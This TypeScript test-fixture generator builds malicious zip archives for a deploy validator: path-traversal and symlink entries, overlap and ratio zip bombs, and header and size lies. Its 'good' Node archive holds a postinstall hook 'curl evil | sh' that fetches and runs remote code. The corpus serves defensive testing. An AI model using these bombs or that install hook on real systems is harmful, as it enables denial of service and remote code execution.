// Generates the deploy-validation corpus (seed 001) at test time: malicious archives, each
// aimed at one check, and good WAR-like and Node archives. Own byte-level zip writer
// (deflate via node:zlib) so headers can lie; never commit its output.
import { crc32, deflateRawSync } from "node:zlib";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";

export interface ZipEntrySpec {
  name: string;
  data?: Buffer | string;
  method?: 0 | 8;
  /** Overrides applied to the central directory record only. */
  cd?: { name?: string; compressedSize?: number; uncompressedSize?: number; flags?: number; method?: number; offset?: number };
  /** Overrides applied to the local header only. */
  local?: { name?: string; uncompressedSize?: number; compressedSize?: number };
  flags?: number;
  externalAttributes?: number;
  versionMadeBy?: number;
  cdExtra?: Buffer;
}

export interface ZipOptions {
  trailing?: Buffer;
  eocd?: { total?: number; cdSize?: number; cdOffset?: number };
}

function u16(n: number): Buffer { const b = Buffer.alloc(2); b.writeUInt16LE(n); return b; }
function u32(n: number): Buffer { const b = Buffer.alloc(4); b.writeUInt32LE(n >>> 0); return b; }

export function localHeader(name: Buffer, method: number, flags: number, crc: number, csize: number, usize: number): Buffer {
  return Buffer.concat([u32(0x04034b50), u16(20), u16(flags), u16(method), u16(0), u16(0x21), u32(crc), u32(csize), u32(usize), u16(name.length), u16(0), name]);
}

export function centralHeader(o: { name: Buffer; madeBy: number; flags: number; method: number; crc: number; csize: number; usize: number; extra: Buffer; attrs: number; offset: number }): Buffer {
  return Buffer.concat([
    u32(0x02014b50), u16(o.madeBy), u16(20), u16(o.flags), u16(o.method), u16(0), u16(0x21), u32(o.crc), u32(o.csize), u32(o.usize),
    u16(o.name.length), u16(o.extra.length), u16(0), u16(0), u16(0), u32(o.attrs), u32(o.offset), o.name, o.extra,
  ]);
}

export function endRecord(total: number, cdSize: number, cdOffset: number): Buffer {
  return Buffer.concat([u32(0x06054b50), u16(0), u16(0), u16(total), u16(total), u32(cdSize), u32(cdOffset), u16(0)]);
}

export function makeZip(specs: ZipEntrySpec[], opts: ZipOptions = {}): Buffer {
  const parts: Buffer[] = [];
  const cds: Buffer[] = [];
  let offset = 0;
  for (const s of specs) {
    const raw = Buffer.isBuffer(s.data) ? s.data : Buffer.from(s.data ?? "");
    const method = s.method ?? (raw.length > 0 ? 8 : 0);
    const body = method === 8 ? deflateRawSync(raw) : raw;
    const crc = crc32(raw);
    const flags = s.flags ?? 0x0800;
    const lname = Buffer.from(s.local?.name ?? s.name);
    const lh = localHeader(lname, method, flags, crc, s.local?.compressedSize ?? body.length, s.local?.uncompressedSize ?? raw.length);
    cds.push(centralHeader({
      name: Buffer.from(s.cd?.name ?? s.name), madeBy: s.versionMadeBy ?? 0x031e, flags: s.cd?.flags ?? flags, method: s.cd?.method ?? method,
      crc, csize: s.cd?.compressedSize ?? body.length, usize: s.cd?.uncompressedSize ?? raw.length, extra: s.cdExtra ?? Buffer.alloc(0),
      attrs: s.externalAttributes ?? ((s.name.endsWith("/") ? 0o040755 : 0o100644) << 16) >>> 0, offset: s.cd?.offset ?? offset,
    }));
    parts.push(lh, body);
    offset += lh.length + body.length;
  }
  const cd = Buffer.concat(cds);
  const eocd = endRecord(opts.eocd?.total ?? specs.length, opts.eocd?.cdSize ?? cd.length, opts.eocd?.cdOffset ?? offset);
  return Buffer.concat([...parts, cd, eocd, opts.trailing ?? Buffer.alloc(0)]);
}

/**
 * Fifield's bombs, byte by byte: one deflate kernel shared by all files. Unquoted: every
 * central entry points at the same local header (full overlap). Quoted: each file's data
 * starts with a non-final stored block that quotes the next file's local header, so each
 * file's data contains all following files (42 kB expands to gigabytes in the real thing).
 */
export function overlapBomb(files: number, kernelBytes: number, quoted: boolean): Buffer {
  const kernelRaw = Buffer.alloc(kernelBytes, 0x61);
  const kernel = deflateRawSync(kernelRaw); // a final block
  const names = Array.from({ length: files }, (_, i) => Buffer.from(`f${String(i).padStart(4, "0")}`));
  if (!quoted) {
    const crc = crc32(kernelRaw);
    const lh = localHeader(names[0]!, 8, 0, crc, kernel.length, kernelRaw.length);
    const cd = Buffer.concat(names.map((n) => centralHeader({ name: n, madeBy: 0x031e, flags: 0, method: 8, crc, csize: kernel.length, usize: kernelRaw.length, extra: Buffer.alloc(0), attrs: 0o100644 << 16, offset: 0 })));
    return Buffer.concat([lh, kernel, cd, endRecord(files, cd.length, lh.length + kernel.length)]);
  }
  // Build from the last file backwards: tail = bytes from file i's local header to kernel end.
  // CRCs of the quoting files are left 0 (Fifield uses crc32_combine): the bomb must be
  // rejected before anything is inflated, so no correct CRC is ever needed.
  let tail = Buffer.alloc(0);
  const meta: { crc: number; csize: number; usize: number }[] = [];
  for (let i = files - 1; i >= 0; i--) {
    let data: Buffer;
    let usize: number;
    let crc = 0;
    if (i === files - 1) {
      data = kernel;
      usize = kernelRaw.length;
      crc = crc32(kernelRaw);
    } else {
      const quotedLen = 30 + names[i + 1]!.length;
      const stored = Buffer.concat([Buffer.from([0x00]), u16(quotedLen), u16(~quotedLen & 0xffff)]);
      data = Buffer.concat([stored, tail]);
      usize = Math.min(0xfffffffe, quotedLen + meta[0]!.usize);
    }
    const lh = localHeader(names[i]!, 8, 0, crc, data.length, usize);
    meta.unshift({ crc, csize: data.length, usize });
    tail = Buffer.concat([lh, data]);
  }
  const offsets: number[] = [];
  let off = 0;
  for (let i = 0; i < files; i++) {
    offsets.push(off);
    off += 30 + names[i]!.length + 5 * (i < files - 1 ? 1 : 0);
  }
  const cd = Buffer.concat(names.map((n, i) => centralHeader({ name: n, madeBy: 0x031e, flags: 0, method: 8, crc: meta[i]!.crc, csize: meta[i]!.csize, usize: meta[i]!.usize, extra: Buffer.alloc(0), attrs: 0o100644 << 16, offset: offsets[i]! })));
  return Buffer.concat([tail, cd, endRecord(files, cd.length, tail.length)]);
}

export interface CorpusCase {
  file: string;
  reason: string;
  bytes: Buffer;
}

const S_IFLNK = 0o120777;
const S_IFCHR = 0o020644;

function nest(levels: number, leaf: Buffer): Buffer {
  let cur = leaf;
  for (let i = 0; i < levels; i++) cur = makeZip(Array.from({ length: 4 }, (_, k) => ({ name: `lib${k}.zip`, data: cur })));
  return cur;
}

export function maliciousCases(): CorpusCase[] {
  const ok = { name: "ok.txt", data: "hello\n" };
  const zip64Extra = Buffer.alloc(0);
  return [
    { file: "zip-slip-unix.zip", reason: "ARCHIVE_PATH_TRAVERSAL", bytes: makeZip([ok, { name: "../../../../tmp/evil.sh", data: "#!/bin/sh\n" }]) },
    { file: "zip-slip-windows.zip", reason: "ARCHIVE_PATH_TRAVERSAL", bytes: makeZip([ok, { name: "..\\..\\..\\Windows\\evil.bat", data: "x" }]) },
    { file: "absolute-path.zip", reason: "ARCHIVE_ABSOLUTE_PATH", bytes: makeZip([{ name: "/etc/cron.d/evil", data: "x" }]) },
    { file: "drive-letter.zip", reason: "ARCHIVE_ABSOLUTE_PATH", bytes: makeZip([{ name: "C:/evil.txt", data: "x" }]) },
    { file: "symlink.zip", reason: "ARCHIVE_SYMLINK", bytes: makeZip([{ name: "link", data: "/etc/shadow", method: 0, externalAttributes: (S_IFLNK << 16) >>> 0 }]) },
    { file: "device.zip", reason: "ARCHIVE_SPECIAL_FILE", bytes: makeZip([{ name: "dev/null", data: "", externalAttributes: (S_IFCHR << 16) >>> 0 }]) },
    { file: "nested-42.zip", reason: "ARCHIVE_NESTING", bytes: nest(3, makeZip([{ name: "0.txt", data: Buffer.alloc(1000, 0x30) }])) },
    { file: "overlap-bomb.zip", reason: "ARCHIVE_OVERLAP", bytes: overlapBomb(200, 1 << 20, false) },
    { file: "quoted-overlap-bomb.zip", reason: "ARCHIVE_OVERLAP", bytes: overlapBomb(250, 1 << 22, true) },
    { file: "ratio-bomb.zip", reason: "ARCHIVE_RATIO", bytes: makeZip([{ name: "zeros.bin", data: Buffer.alloc(20 << 20) }]) },
    { file: "entry-count-bomb.zip", reason: "ARCHIVE_TOO_MANY_ENTRIES", bytes: makeZip(Array.from({ length: 20_001 }, (_, i) => ({ name: `e${i}`, data: "" }))) },
    { file: "name-mismatch.zip", reason: "ARCHIVE_HEADER_MISMATCH", bytes: makeZip([{ name: "innocent.txt", data: "x", local: { name: "../evil.txt" } }]) },
    { file: "size-lie-smaller.zip", reason: "ARCHIVE_SIZE_MISMATCH", bytes: makeZip([{ name: "a.txt", data: "a".repeat(5000), cd: { uncompressedSize: 100 }, local: { uncompressedSize: 100 } }]) },
    { file: "size-lie-larger.zip", reason: "ARCHIVE_SIZE_MISMATCH", bytes: makeZip([{ name: "a.txt", data: "a".repeat(5000), cd: { uncompressedSize: 9000 }, local: { uncompressedSize: 9000 } }]) },
    { file: "zip64-missing-extra.zip", reason: "ARCHIVE_ZIP64_INVALID", bytes: makeZip([{ name: "big.bin", data: "x", cd: { uncompressedSize: 0xffffffff }, cdExtra: zip64Extra }]) },
    { file: "encrypted.zip", reason: "ARCHIVE_ENCRYPTED", bytes: makeZip([{ name: "secret.txt", data: "x", flags: 0x0801 }]) },
    { file: "truncated.zip", reason: "ARCHIVE_TRUNCATED", bytes: makeZip([ok, { name: "b.txt", data: "b".repeat(300) }]).subarray(0, 200) },
    { file: "garbage-after-end.zip", reason: "ARCHIVE_TRAILING_DATA", bytes: makeZip([ok], { trailing: Buffer.from("GARBAGE!") }) },
    { file: "duplicate-case.zip", reason: "ARCHIVE_DUPLICATE_NAME", bytes: makeZip([{ name: "Config.xml", data: "a" }, { name: "config.XML", data: "b" }]) },
    { file: "control-char.zip", reason: "ARCHIVE_BAD_NAME", bytes: makeZip([{ name: "a\u0000.txt", data: "a" }]) },
    { file: "bzip2-method.zip", reason: "ARCHIVE_METHOD", bytes: makeZip([{ name: "a.txt", data: "a", cd: { method: 12 } }]) },
    { file: "bad-crc.zip", reason: "ARCHIVE_CRC", bytes: corruptFirstDataByte(makeZip([{ name: "a.txt", data: "hello world", method: 0 }]), "a.txt".length) },
  ];
}

function corruptFirstDataByte(zip: Buffer, nameLen: number): Buffer {
  const out = Buffer.from(zip);
  out[30 + nameLen] ^= 0xff;
  return out;
}

export const WEB_XML = `<?xml version="1.0" encoding="UTF-8"?>
<web-app xmlns="https://jakarta.ee/xml/ns/jakartaee" version="6.0">
  <display-name>Orders</display-name>
  <security-role><role-name>admin</role-name></security-role>
  <security-role><description>Read only</description><role-name>viewer</role-name></security-role>
  <security-constraint>
    <web-resource-collection>
      <web-resource-name>admin area</web-resource-name>
      <url-pattern>/admin/*</url-pattern>
      <http-method>POST</http-method>
    </web-resource-collection>
    <auth-constraint><role-name>admin</role-name></auth-constraint>
  </security-constraint>
</web-app>
`;

export const MANIFEST = "Manifest-Version: 1.0\r\nBundle-SymbolicName: com.example.orders\r\nBundle-Version: 1.2.3\r\nImport-Package: org.osgi.framework;version=\"[1.8,2)\",javax.servlet;v\r\n ersion=\"4.0\"\r\nCreated-By: corpus\r\n\r\n";

export function goodWar(): Buffer {
  const jar = makeZip([
    { name: "META-INF/MANIFEST.MF", data: "Manifest-Version: 1.0\r\nBundle-SymbolicName: com.example.lib\r\nBundle-Version: 0.9.0\r\n\r\n" },
    { name: "META-INF/maven/com.example/lib/pom.properties", data: "groupId=com.example\nartifactId=lib\nversion=0.9.0\n" },
    { name: "com/example/lib/Util.class", data: Buffer.from("cafebabe0000003d", "hex") },
  ]);
  return makeZip([
    { name: "META-INF/", data: "" },
    { name: "META-INF/MANIFEST.MF", data: MANIFEST },
    { name: "META-INF/roles.properties", data: "# @DeclareRoles equivalents\nroles=auditor, admin\n" },
    { name: "WEB-INF/", data: "" },
    { name: "WEB-INF/web.xml", data: WEB_XML },
    { name: "WEB-INF/lib/", data: "" },
    { name: "WEB-INF/lib/example-lib.jar", data: jar, method: 0 },
    { name: "WEB-INF/classes/com/example/Orders.class", data: Buffer.from("cafebabe0000003d", "hex") },
    { name: "README.md", data: "# Orders service\n\nIntro.\n\n## Install\n\nSteps.\n\n## Usage\n\n### Roles\n" },
    { name: "index.html", data: "<html><body>orders</body></html>".repeat(20) },
  ]);
}

export function goodNodeApp(): Buffer {
  return makeZip([
    { name: "package.json", data: JSON.stringify({ name: "orders-api", version: "2.0.1", description: "Orders API", main: "index.js", license: "MIT", scripts: { postinstall: "curl evil | sh" }, dependencies: { express: "^4.19.0" } }, null, 2) },
    { name: "trustplane-roles.json", data: JSON.stringify({ roles: [{ name: "reader", description: "reads orders" }, { name: "writer" }] }) },
    { name: "index.js", data: "console.log('hi')\n" },
    { name: "docs/", data: "" },
    { name: "docs/api.md", data: "# API\n\n## GET /orders\n\n## POST /orders\n" },
    { name: "README.md", data: "Orders API\n==========\n\n## Running\n" },
  ]);
}

/** Writes every case into dir; returns the cases with their paths. */
export function writeCorpus(dir: string): (CorpusCase & { path: string })[] {
  mkdirSync(dir, { recursive: true });
  const all = [...maliciousCases(), { file: "good.war", reason: "OK", bytes: goodWar() }, { file: "good-node.zip", reason: "OK", bytes: goodNodeApp() }];
  return all.map((c) => {
    const path = join(dir, c.file);
    writeFileSync(path, c.bytes);
    return { ...c, path };
  });
}

/** The contract's entry point for server tests: writes the corpus into dir and splits it. */
export async function makeCorpus(dir: string): Promise<{ good: Record<string, string>; bad: { file: string; reason: string }[] }> {
  const good: Record<string, string> = {};
  const bad: { file: string; reason: string }[] = [];
  for (const c of writeCorpus(dir)) {
    if (c.reason === "OK") good[c.file] = c.path;
    else bad.push({ file: c.path, reason: c.reason });
  }
  return { good, bad };
}

if (process.argv[1] && /make-zip-corpus\.ts$/.test(process.argv[1])) {
  const dir = process.argv[2] ?? "zip-corpus";
  for (const c of writeCorpus(dir)) console.log(`${c.bytes.length.toString().padStart(10)}  ${c.file}  ${c.reason}`);
}
